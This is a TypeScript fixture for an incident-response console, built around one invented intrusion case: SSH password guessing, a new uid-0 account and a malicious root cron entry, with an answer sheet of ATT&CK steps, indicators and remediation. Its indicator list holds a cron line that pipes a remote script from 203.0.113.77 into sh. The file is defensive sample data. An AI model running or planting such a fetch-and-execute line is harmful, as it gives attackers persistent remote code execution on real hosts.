/** One invented case in the shapes of the model, for looking at the console while it is built. Never shipped. */
import type { AnswerSheet } from "@stanch/model/answer";
import type { Incident } from "@stanch/model/incident";
import { incident as incidentSchema } from "@stanch/model/incident";
import { processStep } from "@stanch/model/process";

export const ids = {
  incident: "11111111-1111-4111-8111-111111111111",
  second: "11111111-1111-4111-8111-111111111112",
  me: "22222222-2222-4222-8222-222222222221",
  other: "22222222-2222-4222-8222-222222222222",
  investigation: "33333333-3333-4333-8333-333333333331",
  evidence: "44444444-4444-4444-8444-444444444441",
  evidence2: "44444444-4444-4444-8444-444444444442",
  request: "55555555-5555-4555-8555-555555555551",
  request2: "55555555-5555-4555-8555-555555555552",
  report: "66666666-6666-4666-8666-666666666661",
  measure: "77777777-7777-4777-8777-777777777771",
  measure2: "77777777-7777-4777-8777-777777777772",
  any: "88888888-8888-4888-8888-888888888881",
  customer: "99999999-9999-4999-8999-999999999991",
} as const;

const hour = 3_600_000;
export const at = (hours: number): string => new Date(Date.now() - hours * hour).toISOString();
export const hash = (seed: number): string =>
  Array.from({ length: 64 }, (_, index) => ((index * 7 + seed * 13) % 16).toString(16)).join("");

export const clock = (started: number, stopped?: number): Incident["clock"] => ({
  startedAt: at(started),
  dueAt: at(started - 4),
  ...(stopped === undefined ? {} : { stoppedAt: at(stopped), stoppedBy: "处置员甲", how: "电话，说明已断网" }),
});

const done = new Set(["request", "notify", "determine", "dispatch", "advise", "collect"]);

export const theIncident: Incident = incidentSchema.parse({
  id: ids.incident,
  number: "SEC-2026-0142",
  title: "web-01 出现陌生账号，疑似口令被猜解",
  organisation: "海港零售有限公司 Harbour Retail",
  customerId: ids.customer,
  state: "open",
  level: 2,
  type: "NA-06",
  clock: clock(2.9),
  lead: { id: ids.me, name: "处置员甲" },
  openedAt: at(2.8),
  updatedAt: at(0.1),
  steps: processStep.options.map((step) => ({
    step,
    state: done.has(step) ? "done" : step === "investigate" ? "current" : step === "police" ? "skipped" : "todo",
    ...(done.has(step) ? { at: at(2.5) } : {}),
    ...(step === "police" ? { reason: "客户不报案 / the customer does not press charges" } : {}),
  })),
  next: [
    {
      step: "request",
      what: { zh: "与客户通话并停止时钟", en: "Speak with the customer and stop the clock" },
      screen: "overview",
      since: at(2.8),
    },
    {
      step: "contain",
      what: { zh: "批准隔离 web-01（计划人：处置员乙）", en: "Approve isolation of web-01 (planned by handler B)" },
      screen: "measures",
      since: at(0.4),
    },
  ],
  requests: [{ id: ids.request, number: "REQ-2026-0199" }],
  symptoms: ["unknown-account", "alert-or-notice"],
  location: "上海市浦东新区，2 号楼 3 层机房，C07 机柜",
  contact: { name: "值守工程师", phone: "+86 21 5555 0142", email: "ops@harbour.example" },
  systems: "web-01（CentOS 7，nginx），db-02",
  description: "凌晨告警：web-01 从境外地址多次登录失败后成功，/etc/passwd 多出一个账号。没有重启，没有删东西。",
  language: "zh",
  people: [
    { id: ids.me, name: "处置员甲", part: "lead", since: at(2.7) },
    { id: ids.other, name: "处置员乙", part: "handler", since: at(2.2) },
  ],
  verdict: "incident",
  journalHead: { seq: 31, hash: hash(3) },
  customerPath: "/c/abcdefghijklmnopqrstuvwx",
});

const event = (n: number) => `0123456789abcdef-${n.toString(36)}`;
const day = "2026-03-01T";

export const theAnswer: AnswerSheet = {
  version: 1,
  verdict: "incident",
  summary: {
    zh: "203.0.113.9 在 2,417 次失败后猜中 web-01 上 deploy 的口令，登录后新建账号 sysupd 并写入计划任务，数据库主机 db-02 未见触及。",
    en: "203.0.113.9 guessed the password of deploy on web-01 after 2,417 failures, then added the account sysupd and a cron entry; db-02 shows no trace.",
  },
  type: { scheme: "GB/T 20986-2023", key: "NA-06", secondary: ["NA-05"] },
  level: {
    value: 2,
    rule: "A-important-extreme",
    factors: { importance: "important", loss: "extreme", harm: "unknown" },
    assumptions: [{ zh: "按重要信息系统计", en: "Taken as an important system" }],
    explain: { zh: "重要系统，业务损失特别严重：2 级。", en: "Important system, extremely severe loss: level 2." },
  },
  threads: [
    {
      id: "t-1",
      type: "NA-06",
      first: `${day}00:12:09Z`,
      last: `${day}03:41:00Z`,
      confidence: "high",
      source: {
        ips: ["203.0.113.9"],
        accounts: ["deploy"],
        vector: "ssh-password",
        firstEvent: event(1),
        alternatives: [
          {
            vector: "web-exploit",
            reason: {
              zh: "同期 Web 日志只有扫描，均返回 404。",
              en: "The web log of that time shows scanning only, all 404.",
            },
            events: [event(90)],
          },
        ],
      },
      hosts: ["web-01"],
      accounts: ["deploy", "sysupd", "root"],
      succeeded: true,
      steps: [
        {
          first: `${day}00:12:09Z`,
          last: `${day}02:13:58Z`,
          kind: "fact",
          tactic: "TA0006",
          technique: "T1110.001",
          outcome: "failure",
          count: 2417,
          host: "web-01",
          account: "deploy",
          statement: {
            zh: "203.0.113.9 对 web-01 的 SSH 猜口令 2,417 次，均被拒。",
            en: "203.0.113.9 guessed SSH passwords on web-01 2,417 times, all refused.",
          },
          events: [event(1), event(2), event(3), event(4), event(5)],
        },
        {
          first: `${day}02:14:07Z`,
          last: `${day}02:14:07Z`,
          kind: "fact",
          tactic: "TA0001",
          technique: "T1078.003",
          outcome: "success",
          count: 1,
          host: "web-01",
          account: "deploy",
          statement: {
            zh: "203.0.113.9 以 deploy 登录 web-01 成功。",
            en: "203.0.113.9 logged in to web-01 as deploy.",
          },
          events: [event(19)],
        },
        {
          first: `${day}02:16:40Z`,
          last: `${day}02:16:40Z`,
          kind: "fact",
          tactic: "TA0003",
          technique: "T1136.001",
          outcome: "success",
          count: 1,
          host: "web-01",
          account: "sysupd",
          statement: { zh: "新建账号 sysupd（uid 0）。", en: "Account sysupd was created (uid 0)." },
          events: [event(23), event(24)],
        },
        {
          first: `${day}02:18:02Z`,
          last: `${day}02:18:02Z`,
          kind: "fact",
          tactic: "TA0003",
          technique: "T1053.003",
          outcome: "success",
          count: 1,
          host: "web-01",
          account: "root",
          statement: { zh: "root 的计划任务被替换。", en: "The crontab of root was replaced." },
          events: [event(27)],
        },
        {
          first: `${day}02:19:00Z`,
          last: `${day}03:41:00Z`,
          kind: "inference",
          tactic: "TA0011",
          technique: "T1105",
          outcome: "unknown",
          count: 12,
          host: "web-01",
          statement: {
            zh: "计划任务每 7 分钟从 203.0.113.77 取回脚本，多半是下载后续工具。",
            en: "The cron entry fetches a script from 203.0.113.77 every 7 minutes, probably to bring further tools.",
          },
          events: [event(31), event(32), event(33), event(34)],
        },
      ],
    },
    {
      id: "t-2",
      type: "NA-01",
      first: `${day}00:40:00Z`,
      last: `${day}01:05:00Z`,
      confidence: "moderate",
      source: { ips: ["198.51.100.23"], accounts: [], vector: "unknown", alternatives: [] },
      hosts: ["web-01"],
      accounts: [],
      succeeded: false,
      steps: [
        {
          first: `${day}00:40:00Z`,
          last: `${day}01:05:00Z`,
          kind: "fact",
          tactic: "TA0043",
          technique: "T1595.002",
          outcome: "failure",
          count: 830,
          host: "web-01",
          statement: {
            zh: "198.51.100.23 扫描 web-01 的 830 个路径，均返回 404。",
            en: "198.51.100.23 scanned 830 paths of web-01, all answered 404.",
          },
          events: [event(90), event(91)],
        },
      ],
    },
  ],
  persistence: [
    {
      kind: "account",
      host: "web-01",
      subject: "sysupd",
      at: `${day}02:16:40Z`,
      thread: "t-1",
      statement: { zh: "账号 sysupd（uid 0）仍在 web-01 上。", en: "Account sysupd (uid 0) is still on web-01." },
      events: [event(23)],
    },
    {
      kind: "cron",
      host: "web-01",
      subject: "/var/spool/cron/root",
      at: `${day}02:18:02Z`,
      thread: "t-1",
      statement: {
        zh: "root 的计划任务每 7 分钟取回脚本。",
        en: "A cron entry of root fetches a script every 7 minutes.",
      },
      events: [event(27)],
    },
  ],
  indicators: [
    {
      type: "ip",
      value: "203.0.113.9",
      role: "attacker",
      block: true,
      first: `${day}00:12:09Z`,
      threads: ["t-1"],
      events: [event(1)],
    },
    {
      type: "url",
      value: "http://203.0.113.77/u.sh",
      role: "c2",
      block: true,
      first: `${day}02:19:00Z`,
      threads: ["t-1"],
      events: [event(31)],
    },
    {
      type: "account",
      value: "sysupd",
      role: "created",
      block: false,
      first: `${day}02:16:40Z`,
      threads: ["t-1"],
      events: [event(23)],
    },
    {
      type: "command",
      value: "*/7 * * * * curl -fsSL http://203.0.113.77/u.sh | sh",
      role: "used",
      block: false,
      threads: ["t-1"],
      events: [event(27)],
    },
  ],
  recommended: [
    {
      id: "r-1",
      phase: "contain",
      priority: "now",
      target: "web-01",
      measure: { zh: "隔离 web-01 的网络，只留取证通道", en: "Isolate web-01, leaving only the path for evidence" },
      reason: {
        zh: "入侵者仍有 uid 0 账号和计划任务。",
        en: "The intruder still has an account with uid 0 and a cron entry.",
      },
      events: [event(23), event(27)],
    },
    {
      id: "r-2",
      phase: "eradicate",
      priority: "now",
      target: "web-01",
      measure: {
        zh: "删除账号 sysupd 与 root 的该条计划任务",
        en: "Remove the account sysupd and the cron entry of root",
      },
      reason: { zh: "二者均在入侵后出现。", en: "Both appeared after the intrusion." },
      events: [event(23)],
    },
    {
      id: "r-3",
      phase: "harden",
      priority: "30-days",
      measure: { zh: "SSH 关闭口令登录，只用密钥", en: "Turn off SSH passwords; keys only" },
      reason: { zh: "入口是被猜中的口令。", en: "The way in was a guessed password." },
      events: [event(19)],
    },
  ],
  gaps: [
    {
      kind: "time-hole",
      path: "web-01/var/log/secure",
      host: "web-01",
      from: `${day}02:40:00Z`,
      to: `${day}03:20:00Z`,
      statement: {
        zh: "web-01 的 secure 日志缺 02:40 至 03:20（UTC）。",
        en: "The secure log of web-01 has nothing from 02:40 to 03:20 UTC.",
      },
    },
    {
      kind: "no-command-record",
      statement: {
        zh: "没有命令记录：登录后执行的命令不可见。",
        en: "No command record: what was typed after the login is not visible.",
      },
    },
  ],
  counts: {
    sources: 14,
    bytes: 88_412_331,
    records: 612_004,
    events: 611_870,
    unparsed: 102,
    skipped: 32,
    failedSources: 1,
    detections: 2461,
    rules: 214,
  },
  span: { first: "2026-02-22T03:00:01Z", last: `${day}04:02:11Z` },
  made: { product: "stanch", version: "0.1.0", ruleSet: hash(5), attack: "19", zone: "Asia/Shanghai", now: at(0.3) },
};
